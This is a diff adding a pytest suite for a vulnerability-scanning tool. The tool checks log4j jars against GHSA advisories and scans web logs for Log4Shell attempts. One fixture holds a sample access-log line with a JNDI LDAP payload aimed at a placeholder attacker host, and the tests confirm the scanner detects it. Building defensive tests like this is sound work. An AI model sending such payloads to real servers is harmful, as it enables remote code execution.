@@ -1,0 +1,125 @@
+"""``clearinghouse scan jars|logs`` as a user runs them (a real process): reports, the
+documented exit codes, and ``--server`` against a real platform serving the GHSA records
+through its OSV API."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from clearinghouse.db import Database
+from clearinghouse.timeutil import FixedClock
+from tests.support.advisories import AdvisoryPlatform, advisory_platform
+
+LOG4SHELL = {
+    "GHSA-jfh8-c2jp-5v3q",
+    "GHSA-7rjr-3q55-vv33",
+    "GHSA-p6xc-xr62-6r2g",
+    "GHSA-8489-44mv-ggj8",
+}
+ATTACK = (
+    '1.2.3.4 - - [10/Dec/2021] "GET /?q=%24%7Bjndi:ldap://cb.evil.example/a%7D HTTP/1.1" 200 1\n'
+)
+
+
+def scan(*args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-c", "from clearinghouse.cli import main; main()", "scan", *args],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+
+
+def advisories_by_version(report: dict[str, Any]) -> dict[str, set[str]]:
+    return {
+        c["version"]: {a["id"] for a in c["advisories"]}
+        for c in report["components"]
+        if c["artifact"] == "log4j-core"
+    }
+
+
+@pytest.fixture
+def jars(shared_data: Path) -> Path:
+    return shared_data / "jars" / "log4j"
+
+
+@pytest.mark.shared_data
+def test_scan_jars_exits_1_on_a_vulnerable_component_and_0_without(
+    jars: Path, shared_data: Path, tmp_path: Path
+) -> None:
+    ghsa = str(shared_data / "osv" / "ghsa")
+    done = scan("jars", str(jars), "--advisories", ghsa, "--format", "json")
+    assert done.returncode == 1, done.stderr
+    report = json.loads(done.stdout)
+    assert advisories_by_version(report) == {
+        "2.14.1": LOG4SHELL,
+        "2.16.0": {"GHSA-p6xc-xr62-6r2g", "GHSA-8489-44mv-ggj8"},
+        "2.17.1": set(),
+    }
+    fixed = scan("jars", str(jars / "log4j-core-2.17.1.jar"), "--advisories", ghsa)
+    assert fixed.returncode == 0, fixed.stderr
+    assert "0 vulnerable" in fixed.stdout
+    sarif = tmp_path / "report.sarif"
+    done = scan("jars", str(jars), "--advisories", ghsa, "-f", "sarif", "-o", str(sarif))
+    assert done.returncode == 1
+    assert json.loads(sarif.read_text())["version"] == "2.1.0"
+
+
+@pytest.mark.shared_data
+def test_scan_jars_bad_arguments_exit_2(jars: Path, tmp_path: Path) -> None:
+    assert scan("jars", str(tmp_path / "missing")).returncode == 2
+    both = scan("jars", str(jars), "--advisories", str(tmp_path), "--server", "http://127.0.0.1:9")
+    assert both.returncode == 2
+    assert "not both" in both.stderr
+
+
+def test_scan_logs_exit_codes_and_reports(tmp_path: Path) -> None:
+    attacked = tmp_path / "access.log"
+    attacked.write_text("GET / 200\n" + ATTACK)
+    clean = tmp_path / "clean.log"
+    clean.write_text("GET / 200\n" * 10)
+    done = scan("logs", str(attacked), "--format", "json")
+    assert done.returncode == 1, done.stderr
+    (finding,) = json.loads(done.stdout)["findings"]
+    assert (finding["line"], finding["host"], finding["payload"]) == (
+        2,
+        "cb.evil.example",
+        "${jndi:ldap://cb.evil.example/a}",
+    )
+    assert scan("logs", str(clean)).returncode == 0
+    stix = scan("logs", str(attacked), "--format", "stix", "--tlp", "green")
+    assert stix.returncode == 1
+    bundle = json.loads(stix.stdout)
+    assert {o["type"] for o in bundle["objects"]} == {"indicator", "sighting"}
+    assert scan("logs", str(clean), "--tlp", "white").returncode == 2
+
+
+@pytest.fixture
+def served(database: Database, clock: FixedClock, shared_data: Path) -> Iterator[AdvisoryPlatform]:
+    with advisory_platform(database, clock) as platform:
+        report = platform.import_osv(shared_data / "osv" / "ghsa")
+        assert not report.failed, report.failed[:3]
+        yield platform
+
+
+@pytest.mark.shared_data
+def test_scan_jars_server_asks_the_platforms_osv_api(served: AdvisoryPlatform, jars: Path) -> None:
+    done = scan("jars", str(jars), "--server", f"{served.url}/osv", "--format", "json")
+    assert done.returncode == 1, done.stderr
+    report = json.loads(done.stdout)
+    assert advisories_by_version(report) == {
+        "2.14.1": LOG4SHELL,
+        "2.16.0": {"GHSA-p6xc-xr62-6r2g", "GHSA-8489-44mv-ggj8"},
+        "2.17.1": set(),
+    }
+    core = next(c for c in report["components"] if c["version"] == "2.14.1")
+    log4shell = next(a for a in core["advisories"] if a["id"] == "GHSA-jfh8-c2jp-5v3q")
+    assert "CVE-2021-44228" in log4shell["aliases"]
